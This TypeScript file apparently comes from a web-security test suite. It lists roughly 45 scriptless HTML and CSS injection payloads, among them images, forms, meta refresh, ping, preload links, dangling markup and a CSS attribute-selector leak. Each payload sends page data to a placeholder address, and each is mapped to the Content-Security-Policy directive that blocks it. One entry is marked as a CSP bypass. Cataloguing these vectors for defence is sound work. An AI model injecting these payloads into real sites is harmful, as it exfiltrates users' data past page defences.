import type { Defence, Vector } from './vector.ts';

const REFERENCES = ['https://www.w3.org/TR/CSP3/#directives-fetch', 'https://lcamtuf.coredump.cx/postxss/'];

type Row = readonly [
  id: string,
  idea: string,
  payload: string,
  defence: Defence | readonly Defence[],
  more?: Partial<Vector>,
];

/** Markup without any script that carries something out of the page. */
const ROWS: readonly Row[] = [
  ['E01', 'an image', '<img src="{leak}">', 'img-src'],
  [
    'E02',
    'an image whose address is not closed, and takes along what follows',
    "<img src='{foreign}d?",
    'img-src',
    { place: 'dangling' },
  ],
  [
    'E03',
    'a form that is sent elsewhere',
    '<form action="{leak}"><button id=hit>x</button></form>',
    'form-action',
    { click: true },
  ],
  ['E04', 'a refresh that leaves the page', '<meta http-equiv=refresh content="0;url={leak}">', []],
  ['E05', 'an image of a stylesheet', '<style>main{background:url({leak})}</style>', ['style-src', 'img-src']],
  ['E06', 'a stylesheet', '<link rel=stylesheet href="{leak}">', 'style-src'],
  ['E07', 'a page that is fetched beforehand', '<link rel=prefetch href="{leak}">', 'default-src'],
  ['E08', 'an image that is fetched beforehand', '<link rel=preload as=image href="{leak}">', 'img-src'],
  ['E09', 'a frame', '<iframe src="{leak}"></iframe>', 'frame-src'],
  ['E10', 'the picture of a video', '<video poster="{leak}"></video>', 'img-src'],
  [
    'E11',
    'a font of a stylesheet',
    '<style>@font-face{font-family:f;src:url({leak})}b{font-family:f}</style><b>x</b>',
    ['style-src', 'font-src'],
  ],
  ['E12', 'a ping of a link', '<a id=hit href="#x" ping="{leak}">x</a>', 'connect-src', { click: true }],
  [
    'E13',
    'the icon of the page',
    '<link rel=icon href="{leak}">',
    'img-src',
    { dead: 'headless Chromium 153 and 156 fetch no icons' },
  ],
  [
    'E14',
    'the manifest of the application',
    '<link rel=manifest href="{leak}">',
    'manifest-src',
    { dead: 'headless Chromium 153 and 156 fetch no manifests' },
  ],
  ['E15', 'an object', '<object data="{leak}"></object>', ['object-src', 'frame-src']],
  ['E16', 'an image of SVG', '<svg><image href="{leak}" /></svg>', 'img-src'],
  [
    'E17',
    'a button that sends its form elsewhere',
    '<form><button id=hit formaction="{leak}">x</button></form>',
    'form-action',
    { click: true },
  ],
  [
    'C16',
    'a module that is fetched beforehand',
    '<link rel=modulepreload href="{leak}">',
    // Under 'strict-dynamic' it is fetched.
    'no-strict-dynamic',
    { class: 'csp-bypass' },
  ],
  ['E26', 'a video', '<video src="{leak}" preload=auto></video>', 'media-src'],
  ['E27', 'a sound', '<audio src="{leak}" preload=auto></audio>', 'media-src'],
  ['E28', 'subtitles', '<video crossorigin><track default src="{leak}" kind=captions></video>', 'media-src'],
  ['E29', 'something embedded', '<embed src="{leak}">', ['object-src', 'frame-src']],
  ['E30', 'an image button', '<input type=image src="{leak}">', 'img-src'],
  ['E31', 'the old background attribute', '<table background="{leak}"><td>x</table>', 'img-src'],
  ['E32', 'a stylesheet that imports another one', '<style>@import "{leak}";</style>', 'style-src'],
  [
    'E33',
    'an image of a filter of SVG',
    '<svg><filter id=f><feImage href="{leak}" /></filter><rect width=9 height=9 filter=url(#f) /></svg>',
    'img-src',
  ],
  ['E34', 'an image that is chosen by its size', '<img srcset="{leak} 1x">', 'img-src'],
  ['E35', 'an image that is chosen by its type', '<picture><source srcset="{leak}"><img></picture>', 'img-src'],
  [
    'E36',
    'rules by which pages are fetched beforehand',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{leak}"]}]}</script>',
    'script-src',
  ],
  ['E37', 'a link that is clicked', '<a id=hit href="{leak}">x</a>', [], { click: true }],
  ['E38', 'the address of a script', '<script src="{leak}"></script>', 'script-src'],
  [
    'E39',
    'an image in the document of a frame that has no address',
    '<iframe srcdoc="&lt;img src=&quot;{leak}&quot;>"></iframe>',
    'img-src',
  ],
  [
    'E40',
    'a selector of a stylesheet that tells the first letter of a field',
    '<input id=s value="7"><style>input[value^="7"]{background:url({leak})}</style>',
    ['style-src', 'img-src'],
  ],
  [
    'E41',
    'an area of an image, and its ping',
    '<map name=m><area id=hit shape=default href="#x" ping="{leak}"></map><img usemap=#m>',
    'connect-src',
    { click: true },
  ],
  ['E42', 'a script that is fetched beforehand', '<link rel=preload as=script href="{leak}">', 'script-src'],
  ['E43', 'a font that is fetched beforehand', '<link rel=preload as=font crossorigin href="{leak}">', 'font-src'],
  ['E44', 'data that is fetched beforehand', '<link rel=preload as=fetch crossorigin href="{leak}">', 'connect-src'],
  [
    'E45',
    'a policy in the page that reports elsewhere',
    `<meta http-equiv=Content-Security-Policy content="img-src 'none';report-uri {leak}"><img src="{app}x.png">`,
    'default-src',
    { dead: 'Chromium 153: a policy in a page reports nowhere' },
  ],
];

export const EXFILTRATION_MARKUP: readonly Vector[] = ROWS.map(([id, idea, payload, defence, more = {}]) => ({
  id,
  class: 'exfiltration',
  idea,
  place: 'text',
  payload,
  proof: 'request',
  blockedBy: ['encoding', ...(typeof defence === 'string' ? [defence] : defence)],
  references: REFERENCES,
  ...more,
}));
